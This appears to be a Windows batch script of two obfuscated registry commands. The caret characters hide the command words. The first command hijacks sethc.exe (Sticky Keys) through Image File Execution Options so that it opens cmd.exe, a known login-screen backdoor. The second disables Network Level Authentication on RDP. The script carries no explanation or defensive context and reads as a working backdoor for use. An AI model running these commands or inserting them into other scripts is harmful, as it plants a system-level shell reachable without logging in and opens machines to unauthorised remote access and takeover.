REM init 0111 v0
re^g a^d^d "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v D^ebu^g^ge^r /t ^R^EG_^SZ /d "C:\windows\system32\cmd.exe" /^f
^r^e^g ^a^d^d "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /^v ^Us^erA^u^t^h^en^t^icat^ion /t ^RE^G_D^WORD /d ^0 /f
